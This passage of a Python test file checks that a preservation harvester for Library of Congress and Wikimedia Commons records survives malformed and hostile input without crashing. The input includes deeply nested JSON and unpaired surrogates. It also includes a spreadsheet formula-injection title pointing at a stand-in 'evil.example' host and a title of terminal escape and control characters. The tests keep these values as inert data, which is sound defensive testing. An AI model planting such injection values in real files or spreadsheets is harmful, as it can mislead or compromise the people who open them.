    from preservation.cli import app

    names = hostile_folder(tmp_path)
    db = str(tmp_path / "hostile.duckdb")
    runner = CliRunner()
    harvested = runner.invoke(app, ["harvest", "loc", "--input", str(tmp_path / "loc"), "--db", db])
    normalized = runner.invoke(app, ["normalize", "--db", db])
    for result in (harvested, normalized):
        assert result.exception is None or isinstance(result.exception, SystemExit)
        assert result.exit_code == 0 and "Traceback" not in result.output, result.output
    con = store.connect_read_only(db)
    try:
        refused = dict(
            con.execute("SELECT key, reason FROM quarantine WHERE stage = 'harvest'").fetchall()
        )
        unusable = dict(
            con.execute("SELECT key, reason FROM quarantine WHERE stage = 'normalize'").fetchall()
        )
        stored = {k for (k,) in con.execute("SELECT key FROM raw_records").fetchall()}
        rows = {
            record_id: (title, when)
            for record_id, title, when in con.execute(
                "SELECT record_id, title, date FROM recordings"
            ).fetchall()
        }
    finally:
        con.close()
    # The summary lines give the counts the database holds.
    assert (
        f"{len(names)} responses (0 entities), {len(stored)} new, {len(refused)} quarantined"
        in (harvested.output)
    )
    assert f"; {len(unusable)} quarantined" in normalized.output
    assert set(refused) | stored == set(names) and not set(refused) & stored
    assert all(reason.strip() for reason in [*refused.values(), *unusable.values()])
    assert refused["deep.json"] == "invalid JSON: nested too deeply to decode"
    assert refused["latin1.json"].startswith("not UTF-8: ")
    assert "surrogate" in refused["surrogate.json"]
    assert refused["empty.json"].startswith("invalid JSON: ")
    assert refused["bom.json"].startswith("invalid JSON: ")
    assert unusable == {"list.json": "expected a JSON object, got list"}
    # Hostile text is kept as data (stripped); a date that does not exist is cut to its year.
    assert rows["loc:item:jukebox-2"][0] == '=HYPERLINK("http://evil.example")'
    assert rows["loc:item:jukebox-4"][0] == "\x1b[31mred\x00\x07"
    assert rows["loc:item:jukebox-3"][1] == "1925"
    assert rows["loc:item:jukebox-879940"] == ("Nobody knows de trouble I've seen", "1917-11-21")


# ---------------------------------------------------------------------------------------------
# Live answers: a hostile page is a one-line error, never a traceback
# ---------------------------------------------------------------------------------------------

HOSTILE_PAGES = {
    "loc": {
        "nested too deep": b"[" * 100_000 + b"]" * 100_000,
        "not an object": b"[1, 2]",
        "infinite total": b'{"results": [], "pagination": {"of": 1e400, "next": "x"}}',
        "total not a number": b'{"results": [], "pagination": {"of": "many"}}',
        "pagination a list": b'{"results": [], "pagination": ["next"]}',
    },
    "commons": {
        "nested too deep": b"[" * 100_000 + b"]" * 100_000,
        "not an object": b"[1, 2]",
        "infinite hits": b'{"query": {"pages": {}, "searchinfo": {"totalhits": 1e400}}, '
        b'"continue": {"gsroffset": 50}}',
        "offset not a number": b'{"query": {"pages": {}}, "continue": {"gsroffset": "x"}}',
        "continue a list": b'{"query": {"pages": {}}, "continue": ["gsroffset"]}',
    },
}


# Pages that can be paged through, but not stored as text: quarantined, and the harvest goes on.
READABLE_BUT_UNSTORABLE = {
    "loc": b'{"results": ["\\ud800"]}',
    "commons": b'{"query": {"pages": {"\\udc00": {"title": "File:x.ogg"}}}}',
}


def harvest_one_page(source: str, body: bytes, con: duckdb.DuckDBPyConnection) -> None:
    from preservation.harvest import harvest_live
    from preservation.sources.commons.live import Commons
    from preservation.sources.commons.live import Scope as CommonsScope
    from preservation.sources.http import Etiquette
    from preservation.sources.loc.live import LocGov
    from preservation.sources.loc.live import Scope as LocScope
    from tests.replay import ReplayServer

    with ReplayServer() as server:
        polite = Etiquette("tests@example.org", server.url, interval=0.01, retries=0)
        if source == "loc":
            server.route("/search/", body)
            client, scope = LocGov(polite), LocScope("search", "steal away")
        else:
            server.route("/w/api.php", body)
            client, scope = Commons(polite), CommonsScope("search", "steal away")
        harvest_live(con, source, [scope], client)


@pytest.mark.parametrize(
    ("source", "case"), [(s, c) for s, pages in HOSTILE_PAGES.items() for c in pages]
)
def test_a_hostile_live_page_fails_the_scope_in_one_line(source, case, tmp_path):
    from preservation.errors import PreservationError

    con = store.connect(tmp_path / "live.duckdb")
    with pytest.raises(PreservationError, match="unusable answer") as failed:
        harvest_one_page(source, HOSTILE_PAGES[source][case], con)
    assert len(str(failed.value).splitlines()) == 1
    assert con.execute("SELECT status FROM harvest_log").fetchall() == [("failed",)]
    con.close()


@pytest.mark.parametrize("source", sorted(READABLE_BUT_UNSTORABLE))
def test_a_live_page_with_an_unpaired_surrogate_is_quarantined(source, tmp_path):
    con = store.connect(tmp_path / "live.duckdb")
    harvest_one_page(source, READABLE_BUT_UNSTORABLE[source], con)
    assert con.execute("SELECT status FROM harvest_log").fetchall() == [("ok",)]
    ((stage, reason),) = con.execute("SELECT stage, reason FROM quarantine").fetchall()
    assert stage == "harvest" and "surrogate" in reason
    assert con.execute("SELECT count(*) FROM raw_records").fetchone() == (0,)
    normalize(con)  # nothing stored that normalize could choke on
    con.close()
